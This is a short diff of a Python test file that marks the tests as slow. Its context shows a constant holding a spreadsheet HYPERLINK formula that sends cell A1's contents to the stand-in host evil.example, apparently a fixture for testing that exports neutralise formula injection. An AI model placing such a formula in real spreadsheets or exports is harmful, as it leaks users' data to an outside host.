@@ -10,6 +10,7 @@ import pytest
 from clones import make_clone
 from helpers import cells_of, clean_export, export_text
 
+pytestmark = pytest.mark.slow
 CUSTOMERS = 400
 LIVE = '=HYPERLINK("http://evil.example/?"&A1;"x")'
 NUMBER = re.compile(r"-?\d+([.,]\d+)?")
